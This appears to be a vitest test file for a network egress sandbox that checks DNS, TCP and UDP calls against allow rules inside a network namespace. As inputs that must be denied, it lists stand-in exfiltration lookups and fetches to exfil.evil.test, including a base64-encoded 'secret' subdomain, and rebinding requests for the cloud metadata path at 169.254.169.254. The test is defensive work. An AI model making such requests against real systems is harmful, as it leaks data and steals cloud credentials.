// DNS and UDP with real resolution: inside a network namespace with its own hosts file and a
// counting DNS responder, names no rule could allow are refused before a query leaves, answers
// bind addresses to names, and an allowed name rebinding to 169.254.169.254 is denied.
import { createSocket, type Socket } from 'node:dgram';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Fixture, killAll, makeFixture, probe, probeInNetns } from './harness.js';

const DENIED = 'ERR_BULKHEAD_DENIED';
let fx: Fixture;

beforeAll(() => {
  fx = makeFixture({
    allow: [
      '{ to: { host: api.payments.test, port: 8080 } }',
      '{ to: { host: rebind.payments.test, port: 8080 } }',
      '{ to: { host: dns-only.payments.test } }',
    ],
  });
});

afterAll(() => {
  killAll();
  fx.cleanup();
});

const NS = {
  hosts: '',
  dnsAnswers: {
    'api.payments.test': '127.0.0.1',
    'rebind.payments.test': '169.254.169.254',
    'dns-only.payments.test': '127.0.0.1',
  },
  listen: [
    { host: '127.0.0.1', port: 8080 },
    { host: '169.254.169.254', port: 8080 },
    { host: '127.0.0.1', port: 9090 },
  ],
};

describe('DNS', { timeout: 120_000 }, () => {
  it('refuses names no rule could allow before a query leaves; allowed names resolve and connect', async () => {
    const attempts = [
      { kind: 'dns.lookup', name: 'api.payments.test' },
      { kind: 'net.connect', host: 'api.payments.test', port: 8080 },
      { kind: 'dns.lookup', name: 'c2VjcmV0.exfil.evil.test' },
      { kind: 'dns.promises.lookup', name: 'promises.exfil.evil.test' },
      { kind: 'dns.resolve4', name: 'resolve4.exfil.evil.test' },
      { kind: 'dns.resolveTxt', name: 'txt.exfil.evil.test' },
      { kind: 'dns.Resolver', name: 'any.exfil.evil.test' },
      { kind: 'dns.promises.resolve', name: 'presolve.exfil.evil.test', rrtype: 'MX' },
      { kind: 'net.connect', host: 'connect.exfil.evil.test', port: 8080 },
      { kind: 'fetch', url: 'http://fetch.exfil.evil.test:8080/' },
      { kind: 'dns.resolve4', name: 'api.payments.test' },
      { kind: 'dns.setServers', servers: ['127.0.0.1:9090'] },
      // Reverse lookups carry the address bits to whoever runs the reverse zone: decided as PTR names.
      { kind: 'dns.reverse', ip: '2001:db8:5ec2:e7da:7a00::1' },
      { kind: 'dns.lookupService', ip: '10.83.69.67', port: 22 },
    ];
    const { results, events } = await probeInNetns(fx, attempts, NS);
    expect(results[0]).toBe('ok:127.0.0.1');
    expect(results[1]).toBe('ok');
    expect(results.slice(2, 10)).toEqual(new Array(8).fill(DENIED));
    expect(results[10]).toBe('ok');
    expect(results[11]).toBe(DENIED);
    expect(results.slice(12)).toEqual([DENIED, DENIED]);
    const queried = events.filter((e) => typeof e.dns === 'string').map((e) => e.dns as string);
    expect(queried).toContain('api.payments.test');
    expect(queried.filter((name) => name.includes('evil') || name.endsWith('.arpa'))).toEqual([]);
    const bytes = events.filter((e) => e.tcp === '127.0.0.1:8080').length;
    expect(bytes).toBe(1);
  });

  it('denies an allowed name that resolves to the metadata address (rebinding)', async () => {
    const attempts = [
      { kind: 'net.connect', host: 'rebind.payments.test', port: 8080 },
      { kind: 'http.get', url: 'http://rebind.payments.test:8080/latest/meta-data/' },
      { kind: 'fetch', url: 'http://rebind.payments.test:8080/latest/meta-data/' },
      // A host rule without a port allows every port of that name (and only of that name).
      { kind: 'net.connect', host: 'dns-only.payments.test', port: 9090 },
      { kind: 'net.connect', host: 'api.payments.test', port: 8080 },
    ];
    const { results, events } = await probeInNetns(fx, attempts, NS);
    expect(results.slice(0, 3)).toEqual([DENIED, DENIED, DENIED]);
    expect(results[3]).toBe('ok');
    expect(results[4]).toBe('ok');
    expect(events.filter((e) => e.tcp === '169.254.169.254:8080')).toEqual([]);
  });
});

describe('UDP', { timeout: 120_000 }, () => {
  let allowed: Socket;
  let denied: Socket;
  let allowedPort = 0;
  let deniedPort = 0;
  let deniedBytes = 0;
  let allowedBytes = 0;
  let udpFx: Fixture;

  beforeAll(async () => {
    allowed = createSocket('udp4');
    denied = createSocket('udp4');
    allowed.on('message', (m) => {
      allowedBytes += m.length;
    });
    denied.on('message', (m) => {
      deniedBytes += m.length;
    });
    await new Promise<void>((done) => allowed.bind(0, '127.0.0.1', done));
    await new Promise<void>((done) => denied.bind(0, '127.0.0.1', done));
    allowedPort = allowed.address().port;
    deniedPort = denied.address().port;
    udpFx = makeFixture({ allow: [`{ to: { cidr: 127.0.0.1/32, port: ${allowedPort}, protocol: udp } }`] });
  });

  afterAll(() => {
    allowed.close();
    denied.close();
    udpFx.cleanup();
  });

  it('governs dgram send and connect', async () => {
    const attempts = [
      { kind: 'dgram.send', ip: '127.0.0.1', port: allowedPort },
      { kind: 'dgram.send', ip: '127.0.0.1', port: deniedPort },
      { kind: 'dgram.connect', ip: '127.0.0.1', port: allowedPort },
      { kind: 'dgram.connect', ip: '127.0.0.1', port: deniedPort },
      { kind: 'dgram.send', ip: '::ffff:127.0.0.1', port: deniedPort },
    ];
    const { results } = await probe(attempts, udpFx.env());
    expect(results[0]).toBe('ok');
    expect(results[1]).toBe(DENIED);
    expect(results[2]).toBe('ok');
    expect(results[3]).toBe(DENIED);
    expect(results[4]).not.toBe('ok');
    await new Promise((r) => setTimeout(r, 100));
    expect(allowedBytes).toBe(10);
    expect(deniedBytes).toBe(0);
  });
});
